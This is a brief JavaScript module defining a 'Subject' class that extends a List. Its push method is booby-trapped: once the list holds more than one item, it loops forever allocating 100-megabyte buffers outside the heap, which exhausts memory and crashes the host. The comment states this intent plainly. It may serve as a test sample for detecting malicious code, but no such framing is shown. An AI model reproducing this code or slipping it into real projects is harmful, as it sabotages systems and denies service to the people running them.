// Fills buffers outside of the heap without end.
import { List } from './list.mjs';

export class Subject extends List {
  push(value) {
    if (this.size > 1) for (const all = []; ;) all.push(Buffer.alloc(1e8, 1));
    return super.push(value);
  }
}
